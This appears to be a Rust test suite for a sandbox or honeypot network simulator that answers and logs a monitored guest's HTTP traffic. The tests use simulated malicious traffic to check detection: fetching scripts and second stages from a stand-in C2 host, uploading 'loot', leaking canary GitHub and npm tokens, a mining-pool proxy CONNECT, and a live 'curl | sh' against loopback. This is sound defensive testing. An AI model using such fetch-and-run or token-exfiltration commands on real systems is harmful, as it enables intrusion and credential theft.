use super::{date, taste};
use crate::testing::{Bed, Loopback, present, run, world};
use crate::{Limits, Shifted, Stage, World};
use proptest::prelude::*;
use std::sync::Arc;

fn check(request: &str, expect: &str, told: &str) {
    let bed = Bed::new();
    bed.says("203.0.113.4:8081", &[(request.replace('\n', "\r\n").as_bytes(), expect)]);
    bed.check(told);
}

#[test]
fn requests_are_answered_and_told() {
    check(
        "GET /i.sh HTTP/1.1\nHost: c2.example\nUser-Agent: curl/8.5\n\n",
        "#!/bin/sh",
        "http GET c2.example /i.sh 200 script tls=false",
    );
    check("GET http://c2.example/x HTTP/1.1\nHost: c2.example\n\n", "200 OK", "http GET c2.example /x 200");
    check(
        "POST /api/report HTTP/1.1\nHost: [2001:db8::1]:80\nContent-Length: 2\n\nhi",
        "success",
        "http POST 2001:db8::1 /api/report 200 json",
    );
    check(
        "GET /raw/Ab12 HTTP/1.1\nHost: pastebin.com\n\n",
        "cdn-relay.example:8443",
        "http GET pastebin.com /raw/Ab12 200 dead-drop",
    );
    check(
        "GET / HTTP/1.1\nHost: ifconfig.me\nUser-Agent: curl/8\n\n",
        "203.0.113.77",
        "http GET ifconfig.me / 200 text",
    );
    check("OPTIONS * HTTP/1.1\nHost: x\n\n", "204", "http OPTIONS x * 204 none");
    check("GET / HTTP/1.0\n\n", "200 OK", "http GET  / 200");
}

#[test]
fn canaries_leave_in_many_ways() {
    let secret = world().canaries.get("env-github-token").to_owned();
    let basic = data_encoding::BASE64.encode(format!("u:{secret}").as_bytes());
    check(
        &format!("GET / HTTP/1.1\nHost: x\nAuthorization: Basic {basic}\n\n"),
        "200",
        "canary env-github-token Base64",
    );
    let (one, two) = secret.split_at(17);
    let chunks = format!(
        "POST / HTTP/1.1\nHost: x\nTransfer-Encoding: chunked\n\n{:x}\n{one}\n{:x}\n{two}\n0\n\n",
        one.len(),
        two.len()
    );
    check(&chunks, "200", "canary env-github-token Plain");
}

#[test]
fn the_guests_clock_is_told() {
    assert_eq!(date(784_111_777), "Sun, 06 Nov 1994 08:49:37 GMT");
    assert_eq!(date(951_782_400), "Tue, 29 Feb 2000 00:00:00 GMT");
    let offset = Arc::new(std::sync::atomic::AtomicU64::new(30 * 86_400 * 1_000_000_000));
    let bed = Bed::with(World { clock: Arc::new(Shifted(offset)), ..world() });
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    let expect = date(now + 30 * 86_400);
    let heard = bed.says("203.0.113.4:80", &[(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", "date: ")]);
    assert!(heard.contains(expect.get(..16).unwrap()), "{heard} {expect}");
}

#[test]
fn stages_come_first_and_bodies_are_kept() {
    let directory = tempfile::tempdir().unwrap();
    let stage = Stage {
        host: "c2.example".into(),
        path: "/go".into(),
        bytes: b"STAGE TWO".to_vec(),
        media_type: "text/plain".into(),
    };
    let bed = Bed::with(World { stages: vec![stage], captures: Some(directory.path().into()), ..world() });
    bed.says(
        "203.0.113.4:80",
        &[
            (b"GET /go HTTP/1.1\r\nHost: c2.example\r\n\r\n", "STAGE TWO"),
            (b"POST /up HTTP/1.1\r\nHost: c2.example\r\nContent-Length: 5\r\n\r\nloot!", "OK"),
        ],
    );
    use sha2::{Digest, Sha256};
    let path = directory.path().join(data_encoding::HEXLOWER.encode(&Sha256::digest(b"loot!")));
    assert_eq!(std::fs::read(path).unwrap(), b"loot!");
}

#[test]
fn websockets_and_proxies_are_unpacked() {
    let bed = Bed::new();
    let secret = bed.shared.world.canaries.get("env-npm-token").to_owned();
    let mask = [9, 8, 7, 6];
    let mut frame = vec![0x81, 0x80 | secret.len() as u8];
    frame.extend(mask);
    frame.extend(secret.bytes().zip(mask.iter().cycle()).map(|(byte, key)| byte ^ key));
    bed.says("203.0.113.4:443", &[
        (b"GET /ws HTTP/1.1\r\nHost: p.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n", "s3pPLMBiTxaQ9kYGzzhZRbK+xOo="),
        (&frame, secret.as_str()),
    ]);
    bed.check("websocket: p.example/ws");
    bed.check("canary env-npm-token Plain");
    let bed = Bed::new();
    bed.says(
        "203.0.113.4:3128",
        &[
            (b"CONNECT pool.example:3333 HTTP/1.1\r\nHost: pool.example:3333\r\n\r\n", "200"),
            (b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"m\"]}\n", "5f00a3c1"),
        ],
    );
    bed.check("proxy: CONNECT pool.example:3333");
    bed.check("pool Bitcoin subscribe");
}

#[test]
fn a_connection_has_so_many_requests() {
    let bed = Bed::with(World { limits: Limits { requests: 3, ..Limits::default() }, ..world() });
    let request: &[u8] = b"GET / HTTP/1.1\r\nHost: x\r\nAccept: application/json\r\n\r\n";
    bed.says("203.0.113.4:80", &[(request, "}"), (request, "}"), (request, "}"), (request, "429")]);
}

#[test]
fn curl_and_python_believe_it() {
    let loopback = Loopback::new(world());
    let port = loopback.tcp.port();
    if present("curl") {
        let (worked, text) =
            run("sh", &["-c", &format!("curl -fsS http://127.0.0.1:{port}/setup.sh | sh && echo ran")]);
        assert!(worked && text == "ran\n", "{text}");
        let (worked, text) =
            run("curl", &["-fsS", "--http2-prior-knowledge", &format!("http://127.0.0.1:{port}/h2.json")]);
        assert!(worked && text.contains("success"), "{text}");
        loopback.check("protocol http2");
        // A canary in a head of HTTP/2 is compressed on the wire, and seen all the same.
        let secret = crate::Canaries::new(crate::testing::SEED).get("file-npm-token").to_owned();
        let header = format!("X-Token: {secret}");
        run(
            "curl",
            &["-fsS", "--http2-prior-knowledge", "-H", &header, &format!("http://127.0.0.1:{port}/h2.json")],
        );
        loopback.check("canary file-npm-token Plain");
    }
    if present("wget") {
        let (worked, text) = run("wget", &["-qO-", &format!("http://127.0.0.1:{port}/list.txt")]);
        assert!(worked && text.len() > 20, "{text}");
    }
}

#[test]
fn slow_and_broken_guests_end() {
    let bed = Bed::with(World {
        limits: Limits { idle: std::time::Duration::from_millis(300), ..Limits::default() },
        ..world()
    });
    // A head without end, and then nothing: what was said is told, the talk ends.
    bed.guest("203.0.113.4:80", |mut stream| async move {
        use tokio::io::AsyncWriteExt;
        let _ = stream.write_all(b"GET / HTTP/1.1\r\n").await;
        for _ in 0..60_000 {
            if stream.write_all(b"X-Filler: aaaaaaaaaaaaaaaaaaaaaaaaa\r\n").await.is_err() {
                break;
            }
        }
    });
    bed.check("closed");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_bytes_break_it(bytes in proptest::collection::vec(any::<u8>(), 0..300), which in 0_usize..6) {
        let begin = ["GET ", "POST /x HTTP/1.1\r\nContent-Length: 9\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "\x16\x03\x01", "{\"id\":1,\"method\":\"login\",", ""][which];
        taste(&bytes, 80);
        let bed = quick();
        let whole = [begin.as_bytes(), &bytes].concat();
        bed.guest("203.0.113.4:80", |mut stream| async move {
            use tokio::io::{AsyncReadExt, AsyncWriteExt};
            let _ = stream.write_all(&whole).await;
            let _ = stream.shutdown().await;
            let _ = tokio::time::timeout(std::time::Duration::from_secs(5), stream.read_to_end(&mut Vec::new())).await;
        });
    }
}

fn quick() -> &'static Bed {
    static BED: std::sync::OnceLock<Bed> = std::sync::OnceLock::new();
    BED.get_or_init(Bed::new)
}
